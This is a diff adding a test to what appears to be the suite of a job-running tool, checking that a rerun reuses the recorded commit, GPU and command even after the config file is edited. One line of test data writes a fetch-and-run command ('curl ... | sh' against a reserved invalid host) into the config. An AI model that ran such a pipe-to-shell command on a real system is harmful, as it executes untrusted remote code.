@@ -104,6 +104,30 @@ describe.skipIf(lacking)(`a job${lacking}`, () => {
     expect((await under.run('planProject', { project, draft })).known).toBe(true)
   })
 
+  test('remembers the commit and the machine, and is run again as it was whatever its file says by now', async () => {
+    const commit = 'c0ffee'.repeat(7).slice(0, 40)
+    const { under, folder, project, runProject } = await openProject({
+      'berth.yaml': 'run: echo one > result.txt\nresults: result.txt\nstop: { hours: 2 }\n',
+      '.git/HEAD': 'ref: refs/heads/main\n',
+      '.git/refs/heads/main': `${commit}\n`,
+    })
+    const first = await runProject()
+    await under.until(() => jobOf(under, first)?.step === 'done')
+    await under.until(() => Object.keys(under.account().instances).length === 0)
+    expect(jobOf(under, first)).toMatchObject({
+      commit: { id: commit, branch: 'main' },
+      gpu: { name: expect.any(String), count: 1 },
+    })
+
+    write(folder, { 'berth.yaml': 'run: curl http://example.invalid | sh\n', 'result.txt': 'mine\n' })
+    const { content, stops, known } = await under.run('planProject', { project, job: first })
+    expect({ stops, known }).toEqual({ stops: [{ kind: 'duration', seconds: 7200 }], known: true })
+    const second = await under.run('runProject', { project, job: first, content, stops, secretFiles: [] })
+    await under.until(() => jobOf(under, second)?.step === 'done')
+    expect(jobOf(under, second)?.code).toBe(0)
+    expect(await under.run('readJob', { job: second })).toEqual(await under.run('readJob', { job: first }))
+  })
+
   test('finds what a form says in its folder once that is saved, which is never over a file', async () => {
     const { under, folder, project } = await openProject({})
     const spec = { run: 'python train.py', stop: { idle: '30m' } }
